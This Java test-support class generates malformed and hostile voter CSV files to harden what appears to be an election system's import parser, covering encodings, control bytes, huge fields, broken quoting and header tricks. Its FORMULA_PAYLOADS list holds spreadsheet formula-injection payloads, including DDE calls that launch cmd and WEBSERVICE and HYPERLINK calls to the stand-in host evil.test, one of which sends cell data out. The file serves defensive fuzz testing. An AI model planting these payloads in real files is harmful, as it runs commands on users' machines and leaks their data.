package fr.isoloir.hardening;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/**
 * Hostile voter files, drawn from {@link HostileInputs}' seeded random: a valid file of postal voters
 * (the realm's own, so that a file that turns out valid changes little) bent one way per case:
 * formulas in cells, invalid UTF-8, NUL and control characters, megabyte fields, thousands of columns,
 * empty and header-only files, duplicated and missing columns, unbalanced quotes, odd encodings and
 * line ends, hostile header names.
 */
final class HostileCsv {

    static final String HEADER = "Matricule;Nom;Prénom;Adresse 1;Adresse 2;Code postal;Ville;Collège;Canal";
    /** What spreadsheets run as formulas (OWASP "CSV injection"), and payloads after them. */
    static final List<String> FORMULA_STARTS = List.of("=", "+", "-", "@", "\t", "\r");

    static final List<String> FORMULA_PAYLOADS = List.of(
            "cmd|' /C calc'!A0",
            "HYPERLINK(\"http://evil.test\",\"clic\")",
            "SUM(1+1)*cmd|' /C calc'!A0",
            "1+2",
            "WEBSERVICE(\"http://evil.test/\"&A1)",
            "DDE(\"cmd\";\"/C calc\";\"!A0\")");

    enum Kind {
        CELLS,
        FORMULA,
        INVALID_UTF8,
        NUL_AND_CONTROL,
        MEGABYTE_FIELD,
        THOUSANDS_OF_COLUMNS,
        EMPTY,
        HEADER_ONLY,
        DUPLICATED_COLUMN,
        MISSING_COLUMN,
        UNBALANCED_QUOTE,
        ENCODING,
        LINE_ENDS,
        HOSTILE_HEADER
    }

    private final HostileInputs inputs;
    private final List<List<String>> rows;

    /** @param rows the realm's voters as file rows, in {@link #HEADER}'s columns */
    HostileCsv(HostileInputs inputs, List<List<String>> rows) {
        this.inputs = inputs;
        this.rows = rows;
    }

    /** A valid file of these rows. */
    static String text(List<List<String>> rows) {
        return text(List.of(HEADER.split(";")), rows);
    }

    private static String line(List<String> row) {
        StringBuilder line = new StringBuilder();
        for (String cell : row) {
            if (!line.isEmpty()) {
                line.append(';');
            }
            boolean quote = cell.contains(";") || cell.contains("\"") || cell.contains("\n") || cell.contains("\r");
            line.append(quote ? '"' + cell.replace("\"", "\"\"") + '"' : cell);
        }
        return line.toString();
    }

    Kind kind() {
        return inputs.pick(List.of(Kind.values()));
    }

    /** One hostile file of this kind, as bytes. */
    byte[] file(Kind kind) {
        List<List<String>> some = new ArrayList<>();
        rows.subList(0, 1 + inputs.random().nextInt(Math.min(rows.size(), 6)))
                .forEach(r -> some.add(new ArrayList<>(r)));
        List<String> header = new ArrayList<>(List.of(HEADER.split(";")));
        return switch (kind) {
            case CELLS -> {
                for (int i = 0, n = 1 + inputs.random().nextInt(3); i < n; i++) {
                    List<String> row = inputs.pick(some);
                    int column = inputs.random().nextInt(row.size());
                    row.set(column, inputs.value(row.get(column)));
                }
                yield utf8(header, some);
            }
            case FORMULA -> {
                for (List<String> row : some) {
                    int column = 1 + inputs.random().nextInt(row.size() - 1);
                    row.set(column, inputs.pick(FORMULA_STARTS) + inputs.pick(FORMULA_PAYLOADS));
                }
                yield utf8(header, some);
            }
            case INVALID_UTF8 -> {
                byte[] text = utf8(header, some);
                int at = inputs.random().nextInt(text.length);
                yield splice(text, at, inputs.pick(HostileInputs.INVALID_UTF8));
            }
            case NUL_AND_CONTROL -> {
                byte[] text = utf8(header, some);
                for (int i = 0, n = 1 + inputs.random().nextInt(4); i < n; i++) {
                    text = splice(text, inputs.random().nextInt(text.length), new byte[] {
                        (byte) inputs.random().nextInt(0x20)
                    });
                }
                yield text;
            }
            case MEGABYTE_FIELD -> {
                List<String> row = inputs.pick(some);
                String unit = inputs.chance(0.5) ? "A" : inputs.pick(HostileInputs.FRAGMENTS);
                row.set(
                        inputs.random().nextInt(row.size()),
                        (unit.isEmpty() ? "B" : unit)
                                .repeat(HostileInputs.ONE_MEGABYTE / Math.max(1, unit.length()) + 1));
                yield utf8(header, some);
            }
            case THOUSANDS_OF_COLUMNS -> {
                int extra = 1000 + inputs.random().nextInt(9000);
                for (int i = 0; i < extra; i++) {
                    header.add(inputs.chance(0.001) ? "Nom" : "Colonne " + i);
                }
                some.forEach(row -> {
                    for (int i = 0; i < extra; i++) {
                        row.add(inputs.chance(0.5) ? "" : "x" + i);
                    }
                });
                yield utf8(header, some);
            }
            case EMPTY ->
                inputs.pick(List.of("", " ", "\r\n\r\n", "\t ; ;\n", "\uFEFF", ";;;;", "\"\"", "\u00a0\u2003"))
                        .getBytes(StandardCharsets.UTF_8);
            case HEADER_ONLY ->
                ((inputs.chance(0.5) ? "\uFEFF" : "") + HEADER + (inputs.chance(0.5) ? "\r\n" : ""))
                        .getBytes(StandardCharsets.UTF_8);
            case DUPLICATED_COLUMN -> {
                int column = inputs.random().nextInt(header.size());
                header.add(
                        inputs.random().nextInt(header.size() + 1),
                        header.get(column).toUpperCase(java.util.Locale.ROOT));
                some.forEach(row -> row.add(inputs.value(row.get(column))));
                yield utf8(header, some);
            }
            case MISSING_COLUMN -> {
                int column = inputs.random().nextInt(header.size());
                header.remove(column);
                if (inputs.chance(0.5)) {
                    some.forEach(row -> row.remove(column));
                }
                yield utf8(header, some);
            }
            case UNBALANCED_QUOTE -> {
                List<String> row = inputs.pick(some);
                int column = inputs.random().nextInt(row.size());
                String text = text(header, some);
                String cell = row.get(column);
                int at = text.indexOf(cell, HEADER.length());
                String broken = at < 0
                        ? text + "\""
                        : text.substring(0, at)
                                + (inputs.chance(0.5) ? "\"" + cell : cell + "\"x\"")
                                + text.substring(at + cell.length());
                yield broken.getBytes(StandardCharsets.UTF_8);
            }
            case ENCODING -> {
                String text = text(header, some);
                yield switch (inputs.random().nextInt(5)) {
                    case 0 -> concat(new byte[] {(byte) 0xFE, (byte) 0xFF}, text.getBytes(StandardCharsets.UTF_16BE));
                    case 1 -> concat(new byte[] {(byte) 0xFF, (byte) 0xFE}, text.getBytes(StandardCharsets.UTF_16LE));
                    case 2 -> concat(new byte[] {(byte) 0xFF, (byte) 0xFE}, new byte[] {0x41, 0x00, 0x42});
                    case 3 -> text.getBytes(CsvCharsets.WINDOWS_1252);
                    default -> new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF};
                };
            }
            case LINE_ENDS -> {
                String text = text(header, some);
                yield switch (inputs.random().nextInt(3)) {
                    case 0 -> text.replace("\r\n", "\r").getBytes(StandardCharsets.UTF_8);
                    case 1 -> text.replace("\r\n", "\n\n\n").getBytes(StandardCharsets.UTF_8);
                    default -> text.replace(';', ',').getBytes(StandardCharsets.UTF_8);
                };
            }
            case HOSTILE_HEADER -> {
                int column = inputs.random().nextInt(header.size());
                header.set(column, inputs.chance(0.5) ? inputs.value(header.get(column)) : inputs.value(null));
                if (inputs.chance(0.5)) {
                    header.add(inputs.value(null));
                }
                yield utf8(header, some);
            }
        };
    }

    private static String text(List<String> header, List<List<String>> rows) {
        StringBuilder csv = new StringBuilder(line(header)).append("\r\n");
        rows.forEach(row -> csv.append(line(row)).append("\r\n"));
        return csv.toString();
    }

    private static byte[] utf8(List<String> header, List<List<String>> rows) {
        return text(header, rows).getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] splice(byte[] text, int at, byte[] inserted) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(text, 0, at);
        out.writeBytes(inserted);
        out.write(text, at, text.length - at);
        return out.toByteArray();
    }

    private static byte[] concat(byte[] first, byte[] second) {
        return splice(first, first.length, second);
    }

    /** Windows-1252, as French Excel's plain "CSV" writes. */
    private static final class CsvCharsets {
        static final java.nio.charset.Charset WINDOWS_1252 = java.nio.charset.Charset.forName("windows-1252");
    }
}
